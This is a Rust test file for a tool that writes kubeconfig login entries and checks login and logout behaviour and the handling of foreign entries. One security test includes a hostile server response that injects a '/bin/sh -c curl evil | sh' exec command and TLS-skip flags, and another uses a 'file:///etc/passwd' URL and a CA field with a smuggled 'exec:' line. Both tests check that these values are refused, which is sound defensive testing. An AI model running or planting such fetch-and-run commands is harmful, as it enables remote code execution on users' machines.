use std::path::{Path, PathBuf};

use proptest::prelude::*;
use serde_yaml::{Mapping, Value};

use super::*;

fn server() -> ServerUrl {
    ServerUrl::parse("http://tka-prod").unwrap()
}

fn endpoint(cluster: &str) -> ClusterEndpoint {
    ClusterEndpoint {
        name: ClusterName::new(cluster).unwrap(),
        server: format!("https://{cluster}.api.example:6443"),
        certificate_authority_data: Some("LS0tLS1CRUdJTg==".to_owned()),
        proxy: None,
    }
}

fn entries_with(
    cluster: &str,
    template: &ContextTemplate,
    credential: UserCredential,
) -> LoginEntries {
    let server = server();
    LoginEntries::new(
        &endpoint(cluster),
        EntryOptions {
            template,
            server: &server,
            identity: Some("laptop.tail1234.ts.net"),
            socks5: None,
            namespace: None,
            credential,
        },
    )
    .unwrap()
}

fn exec() -> UserCredential {
    UserCredential::Exec {
        command: "/usr/local/bin/tka".to_owned(),
    }
}

fn entries(cluster: &str) -> LoginEntries {
    entries_with(cluster, &ContextTemplate::default(), exec())
}

const FOREIGN: &str = r#"
apiVersion: v1
kind: Config
clusters:
- name: kind-dev
  cluster:
    server: https://127.0.0.1:41234
    certificate-authority-data: QUJD
    x-unknown: {keep: [1, 2, "yes"]}
users:
- name: kind-dev
  user:
    client-certificate-data: REVG
    client-key-data: R0hJ
contexts:
- name: kind-dev
  context: {cluster: kind-dev, user: kind-dev, namespace: default}
current-context: kind-dev
preferences: {colors: true}
extensions:
- name: example.com/thing
  extension: {a: "0123", b: null, c: 1.5}
x-top-level: ["on", "off", "~"]
"#;

#[test]
fn destination_follows_client_go() {
    let home = Path::new("/home/alice");
    let exists =
        |set: &'static [&'static str]| move |p: &Path| set.iter().any(|s| Path::new(s) == p);
    // No KUBECONFIG, or an empty one: ~/.kube/config.
    for env in [None, Some(""), Some(":")] {
        assert_eq!(
            destination(env.map(OsStr::new), Some(home), exists(&[])),
            Some(PathBuf::from("/home/alice/.kube/config"))
        );
    }
    // The first listed file that exists...
    assert_eq!(
        destination(
            Some(OsStr::new("/a:/b:/c")),
            Some(home),
            exists(&["/b", "/c"])
        ),
        Some(PathBuf::from("/b"))
    );
    // ...else the last one listed.
    assert_eq!(
        destination(Some(OsStr::new("/a:/b:/c")), Some(home), exists(&[])),
        Some(PathBuf::from("/c"))
    );
    // A single file is used whether it exists or not.
    assert_eq!(
        destination(Some(OsStr::new("/only")), Some(home), exists(&[])),
        Some(PathBuf::from("/only"))
    );
    // No KUBECONFIG and no home: nothing to write to.
    assert_eq!(destination(None, None, exists(&[])), None);
}

#[test]
fn renders_exec_entries_into_an_empty_kubeconfig() {
    let mut config = Kubeconfig::default();
    let change = config.login(&entries("prod"), true).unwrap();
    assert_eq!(change.context, "tka-prod");
    assert!(change.switched && !change.replaced);
    assert_eq!(change.previous_context, None);
    insta::assert_snapshot!(config.render().unwrap());
}

#[test]
fn static_login_embeds_the_token_and_no_exec() {
    let mut config = Kubeconfig::default();
    let static_entries = entries_with(
        "prod",
        &ContextTemplate::default(),
        UserCredential::Static {
            token: Secret::new("eyJhbGciOiJSUzI1NiJ9.e30.sig".to_owned()),
        },
    );
    config.login(&static_entries, true).unwrap();
    let text = config.render().unwrap();
    assert!(text.contains("token: eyJhbGciOiJSUzI1NiJ9.e30.sig"));
    assert!(!text.contains("exec:"));
    // The exec form, for contrast, has no token.
    let mut exec_config = Kubeconfig::default();
    exec_config.login(&entries("prod"), true).unwrap();
    let exec_text = exec_config.render().unwrap();
    assert!(exec_text.contains("exec:") && !exec_text.contains("token:"));
}

#[test]
fn a_server_cannot_smuggle_exec_or_tls_switches_into_the_kubeconfig() {
    // A login response with extra fields a hostile or buggy server might send.
    let hostile = serde_json::json!({
        "cluster": {
            "name": "prod",
            "server": "https://prod.api.example:6443",
            "certificateAuthorityData": "QUJD",
            "insecure-skip-tls-verify": true,
            "insecureSkipTlsVerify": true,
            "exec": {"command": "/bin/sh", "args": ["-c", "curl evil | sh"]},
        },
        "session": {
            "name": "tka-alice-x1",
            "role": "sre",
            "expiresAt": "2026-01-01T01:00:00Z",
            "device": "laptop",
            "caller": "alice@example.com",
        },
        "token": {"token": "t", "expiresAt": "2026-01-01T00:15:00Z"},
        "ttl": "1h",
        "kubeconfig": "apiVersion: v1\nusers: [{name: x, user: {exec: {command: /bin/sh}}}]",
        "exec": {"command": "/bin/sh"},
        "insecure-skip-tls-verify": true,
    });
    let response: crate::api::LoginResponse = serde_json::from_value(hostile).unwrap();
    let server = server();
    let built = LoginEntries::new(
        &response.cluster,
        EntryOptions {
            template: &ContextTemplate::default(),
            server: &server,
            identity: Some(&response.session.device),
            socks5: None,
            namespace: None,
            credential: exec(),
        },
    )
    .unwrap();
    let mut config = Kubeconfig::default();
    config.login(&built, true).unwrap();
    let text = config.render().unwrap();
    assert!(!text.contains("/bin/sh"), "{text}");
    assert!(!text.contains("curl"), "{text}");
    assert!(!text.contains("insecure"), "{text}");
    // What the server legitimately sent did arrive.
    assert!(text.contains("server: https://prod.api.example:6443"));
    assert!(text.contains("certificate-authority-data: QUJD"));
    assert!(text.contains("command: /usr/local/bin/tka"));
}

#[test]
fn unusable_endpoints_are_refused() {
    let server = server();
    let try_endpoint = |ep: ClusterEndpoint| {
        LoginEntries::new(
            &ep,
            EntryOptions {
                template: &ContextTemplate::default(),
                server: &server,
                identity: None,
                socks5: None,
                namespace: None,
                credential: exec(),
            },
        )
    };
    let mut bad_url = endpoint("prod");
    bad_url.server = "file:///etc/passwd".to_owned();
    assert!(matches!(
        try_endpoint(bad_url),
        Err(KubeconfigError::Endpoint(_))
    ));
    let mut bad_ca = endpoint("prod");
    bad_ca.certificate_authority_data = Some("not base64!\nexec: x".to_owned());
    assert!(matches!(
        try_endpoint(bad_ca),
        Err(KubeconfigError::Endpoint(_))
    ));
    assert!(try_endpoint(endpoint("prod")).is_ok());
}

#[test]
fn the_tka_proxy_and_a_socks5_proxy_shape_the_cluster_entry() {
    let server = server();
    let socks5 = Socks5Addr::parse("localhost:1055").unwrap();
    let mut ep = endpoint("prod");
    ep.proxy = Some("http://tka-prod-proxy:8443".to_owned());
    let built = LoginEntries::new(
        &ep,
        EntryOptions {
            template: &ContextTemplate::default(),
            server: &server,
            identity: Some("laptop"),
            socks5: Some(&socks5),
            namespace: Some("team-a"),
            credential: exec(),
        },
    )
    .unwrap();
    assert_eq!(
        built.exec_args(),
        [
            "credential",
            "prod",
            "--server",
            "http://tka-prod",
            "--identity",
            "laptop",
            "--socks5",
            "localhost:1055"
        ]
    );
    let mut config = Kubeconfig::default();
    config.login(&built, true).unwrap();
    let text = config.render().unwrap();
    assert!(text.contains("server: http://tka-prod-proxy:8443"));
    assert!(text.contains("proxy-url: socks5://localhost:1055"));
    assert!(text.contains("namespace: team-a"));
    // The cluster's CA is for the API server, not for the proxy.
    assert!(!text.contains("certificate-authority-data"));
}

#[test]
fn foreign_entries_with_tka_names_are_never_overwritten() {
    for kind in ["clusters", "users", "contexts"] {
        let body = &kind[..kind.len() - 1];
        let text = format!("{kind}:\n- name: tka-prod\n  {body}: {{mine: true}}\n");
        let mut config = Kubeconfig::parse(&text).unwrap();
        let before = config.clone();
        let err = config.login(&entries("prod"), true).unwrap_err();
        assert_eq!(
            err,
            KubeconfigError::ForeignEntry {
                kind: body,
                name: "tka-prod".to_owned()
            }
        );
        assert_eq!(config, before);
        // With another context name, the login goes through and the foreign entry stays.
        let other = ContextTemplate::parse("{cluster}-via-tka").unwrap();
        config
            .login(&entries_with("prod", &other, exec()), true)
            .unwrap();
        assert_eq!(config.tka_contexts().len(), 1);
        assert!(config.render().unwrap().contains("mine: true"));
    }
}

#[test]
fn logout_restores_the_previous_context_and_keeps_foreign_entries() {
    let original = Kubeconfig::parse(FOREIGN).unwrap();
    let mut config = original.clone();
    let change = config.login(&entries("prod"), true).unwrap();
    assert_eq!(change.previous_context.as_deref(), Some("kind-dev"));
    assert_eq!(config.current_context(), Some("tka-prod"));
    assert_eq!(
        config.tka_contexts(),
        [TkaContext {
            name: "tka-prod".to_owned(),
            marker: LoginMarker {
                cluster: ClusterName::new("prod").unwrap(),
                server: server(),
                identity: Some("laptop.tail1234.ts.net".to_owned()),
            },
            current: true,
        }]
    );
    let out = config.logout("tka-prod").unwrap();
    assert_eq!(out.restored, Some(Some("kind-dev".to_owned())));
    assert_eq!(config, original);
    // Nothing left to log out of; a foreign context is never removed.
    assert_eq!(config.logout("tka-prod"), None);
    assert_eq!(config.logout("kind-dev"), None);
    assert_eq!(config, original);
}

#[test]
fn logout_leaves_a_current_context_the_user_chose_alone() {
    let mut config = Kubeconfig::parse(FOREIGN).unwrap();
    config.login(&entries("prod"), true).unwrap();
    config
        .root
        .insert(str_value("current-context"), str_value("kind-dev"));
    let out = config.logout("tka-prod").unwrap();
    assert_eq!(out.restored, None);
    assert_eq!(config.current_context(), Some("kind-dev"));
}

#[test]
fn no_switch_keeps_the_current_context() {
    let mut config = Kubeconfig::parse(FOREIGN).unwrap();
    let change = config.login(&entries("prod"), false).unwrap();
    assert!(!change.switched);
    assert_eq!(config.current_context(), Some("kind-dev"));
    // Switching is what happens without --no-switch.
    config.login(&entries("prod"), true).unwrap();
    assert_eq!(config.current_context(), Some("tka-prod"));
}

#[test]
fn chains_of_logins_unwind_to_the_original_context() {
    let original = Kubeconfig::parse(FOREIGN).unwrap();
    let mut config = original.clone();
    config.login(&entries("a"), true).unwrap();
    config.login(&entries("b"), true).unwrap();
    // Logging in to a again moves it to the top of the chain: a -> b -> kind-dev.
    let change = config.login(&entries("a"), true).unwrap();
    assert!(change.replaced);
    assert_eq!(change.previous_context.as_deref(), Some("tka-b"));
    let out = config.logout("tka-a").unwrap();
    assert_eq!(out.restored, Some(Some("tka-b".to_owned())));
    let out = config.logout("tka-b").unwrap();
    assert_eq!(out.restored, Some(Some("kind-dev".to_owned())));
    assert_eq!(config, original);
}

#[test]
fn malformed_kubeconfigs_are_refused_with_the_problem() {
    let err = Kubeconfig::parse("clusters:\n- name: a\n  cluster: {server: x\n").unwrap_err();
    assert!(
        matches!(&err, KubeconfigError::Yaml(m) if m.contains("line")),
        "{err}"
    );
    assert!(matches!(
        Kubeconfig::parse("- a\n- b\n"),
        Err(KubeconfigError::Shape(_))
    ));
    assert!(matches!(
        Kubeconfig::parse("clusters: {a: b}\n"),
        Err(KubeconfigError::Shape(m)) if m.contains("clusters")
    ));
    assert!(matches!(
        Kubeconfig::parse("current-context: [a]\n"),
        Err(KubeconfigError::Shape(_))
    ));
    // Empty and comment-only files are empty kubeconfigs.
    assert!(Kubeconfig::parse("").is_ok());
    assert!(Kubeconfig::parse("# nothing yet\n").is_ok());
}

#[test]
fn only_holds_just_the_tka_entries() {
    let config = Kubeconfig::only(&entries("prod"));
    assert_eq!(config.current_context(), Some("tka-prod"));
    for key in ["clusters", "users", "contexts"] {
        assert_eq!(config.items(key).len(), 1);
    }
}

#[test]
fn templates() {
    let prod = ClusterName::new("prod").unwrap();
    assert_eq!(
        ContextTemplate::parse("prod").unwrap().render(&prod),
        "prod"
    );
    for bad in ["", "{cluster", "{role}-x", "a b", "tka-{cluster}}"] {
        assert!(ContextTemplate::parse(bad).is_err(), "{bad:?}");
    }
}

// ---------------------------------------------------------------------------------------------
// Property: logins and logouts never change a foreign entry, and logging out of everything
// restores the original file (up to an absent list being written as an empty one).

#[derive(Debug, Clone)]
enum Op {
    Login {
        cluster: usize,
        switch: bool,
        alt_template: bool,
    },
    Logout {
        cluster: usize,
    },
    LogoutAll,
}

const CLUSTERS: [&str; 3] = ["a", "b", "prod"];

fn op() -> impl Strategy<Value = Op> {
    prop_oneof![
        4 => (0..CLUSTERS.len(), any::<bool>(), any::<bool>()).prop_map(|(cluster, switch, alt_template)| Op::Login {
            cluster,
            switch,
            alt_template
        }),
        2 => (0..CLUSTERS.len()).prop_map(|cluster| Op::Logout { cluster }),
        1 => Just(Op::LogoutAll),
    ]
}

fn scalar() -> impl Strategy<Value = Value> {
    prop_oneof![
        Just(Value::Null),
        any::<bool>().prop_map(Value::Bool),
        any::<i64>().prop_map(|i| Value::Number(i.into())),
        prop::num::f64::NORMAL.prop_map(|f| Value::Number(f.into())),
        prop_oneof![
            Just("yes".to_owned()),
            Just("no".to_owned()),
            Just("on".to_owned()),
            Just("~".to_owned()),
            Just("null".to_owned()),
            Just("0123".to_owned()),
            Just("1e3".to_owned()),
            Just("- x".to_owned()),
            Just("a: b".to_owned()),
            Just("# not a comment".to_owned()),
            Just("tka-a".to_owned()),
            any::<String>(),
        ]
        .prop_map(Value::String),
    ]
}

fn value() -> impl Strategy<Value = Value> {
    scalar().prop_recursive(3, 24, 4, |inner| {
        prop_oneof![
            prop::collection::vec(inner.clone(), 0..4).prop_map(Value::Sequence),
            prop::collection::vec(("[a-zA-Z_.-]{1,10}", inner), 0..4).prop_map(|kv| {
                Value::Mapping(kv.into_iter().map(|(k, v)| (Value::String(k), v)).collect())
            }),
        ]
    })
}

/// Foreign entries; names may collide with tka's (`tka-a`, `a-via-tka`), which must then refuse.
fn entry_list(body_key: &'static str) -> impl Strategy<Value = Value> {
    prop::collection::vec(
        (
            prop_oneof![
                "[a-z][a-z0-9-]{0,8}",
                Just("tka-a".to_owned()),
                Just("b-via-tka".to_owned())
            ],
            prop::collection::vec(("[a-z-]{1,12}", value()), 0..4),
        ),
        0..4,
    )
    .prop_map(move |items| {
        Value::Sequence(
            items
                .into_iter()
                .map(|(name, fields)| {
                    let mut body = Mapping::new();
                    for (k, v) in fields {
                        body.insert(Value::String(k), v);
                    }
                    let mut entry = Mapping::new();
                    entry.insert(str_value("name"), Value::String(name));
                    entry.insert(str_value(body_key), Value::Mapping(body));
                    Value::Mapping(entry)
                })
                .collect(),
        )
    })
}

fn list_or_absent(body_key: &'static str) -> impl Strategy<Value = Option<Value>> {
    prop_oneof![
        1 => Just(None),
        1 => Just(Some(Value::Null)),
        4 => entry_list(body_key).prop_map(Some),
    ]
}

fn foreign_config() -> impl Strategy<Value = Kubeconfig> {
    (
        list_or_absent("cluster"),
        list_or_absent("user"),
        list_or_absent("context"),
        prop::option::of(prop_oneof![
            Just(Value::Null),
            "[a-z][a-z0-9-]{0,8}".prop_map(Value::String),
            Just(str_value("")),
        ]),
        prop::option::of(value()),
        prop::option::of(value()),
        prop::collection::vec(("x-[a-z]{1,8}", value()), 0..3),
    )
        .prop_map(
            |(clusters, users, contexts, current, preferences, extensions, unknown)| {
                let mut root = Mapping::new();
                root.insert(str_value("apiVersion"), str_value("v1"));
                for (k, v) in [
                    ("clusters", clusters),
                    ("users", users),
                    ("contexts", contexts),
                    ("current-context", current),
                    ("preferences", preferences),
                    ("extensions", extensions),
                ] {
                    if let Some(v) = v {
                        root.insert(str_value(k), v);
                    }
                }
                for (k, v) in unknown {
                    root.insert(Value::String(k), v);
                }
                Kubeconfig { root }
            },
        )
}

/// Everything but tka's entries and the current-context, with absent, `null` and empty lists
/// treated alike (as client-go does).
fn foreign_part(config: &Kubeconfig) -> Mapping {
    let mut root = config.root().clone();
    root.shift_remove("current-context");
    for (key, body, _) in LISTS {
        let kept: Vec<Value> = config
            .items(key)
            .iter()
            .filter(|i| marker_of(i, body).is_none())
            .cloned()
            .collect();
        if kept.is_empty() {
            root.shift_remove(key);
        } else {
            root.insert(str_value(key), Value::Sequence(kept));
        }
    }
    root
}

fn normalized(config: &Kubeconfig) -> Mapping {
    let mut root = foreign_part(config);
    if let Some(c) = config.root().get("current-context") {
        root.insert(str_value("current-context"), c.clone());
    }
    root
}

fn logout_cluster(config: &mut Kubeconfig, cluster: Option<&str>) {
    let names: Vec<String> = config
        .tka_contexts()
        .into_iter()
        .filter(|c| cluster.is_none_or(|want| c.marker.cluster.as_str() == want))
        .map(|c| c.name)
        .collect();
    for name in names {
        assert!(config.logout(&name).is_some());
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 256, ..ProptestConfig::default() })]

    #[test]
    fn logins_and_logouts_never_touch_foreign_entries(
        original in foreign_config(),
        ops in prop::collection::vec(op(), 0..12),
    ) {
        // What is written must read back as the same tree.
        let text = original.render().unwrap();
        let mut config = Kubeconfig::parse(&text).unwrap();
        prop_assert_eq!(config.root(), original.root());
        let alt = ContextTemplate::parse("{cluster}-via-tka").unwrap();
        for op in &ops {
            let before = config.clone();
            match *op {
                Op::Login { cluster, switch, alt_template } => {
                    let template = if alt_template { alt.clone() } else { ContextTemplate::default() };
                    let e = entries_with(CLUSTERS[cluster], &template, exec());
                    match config.login(&e, switch) {
                        Ok(_) => {
                            if switch {
                                prop_assert_eq!(config.current_context(), Some(e.context_name()));
                            }
                        }
                        Err(err) => {
                            let refused = matches!(err, KubeconfigError::ForeignEntry { .. });
                            prop_assert!(refused, "{}", err);
                            prop_assert_eq!(&config, &before);
                        }
                    }
                }
                Op::Logout { cluster } => logout_cluster(&mut config, Some(CLUSTERS[cluster])),
                Op::LogoutAll => logout_cluster(&mut config, None),
            }
            prop_assert_eq!(foreign_part(&config), foreign_part(&original));
            // A write and a read in between change nothing.
            let reread = Kubeconfig::parse(&config.render().unwrap()).unwrap();
            prop_assert_eq!(reread.root(), config.root());
            config = reread;
        }
        logout_cluster(&mut config, None);
        prop_assert!(config.tka_contexts().is_empty());
        prop_assert_eq!(normalized(&config), normalized(&original));
    }
}
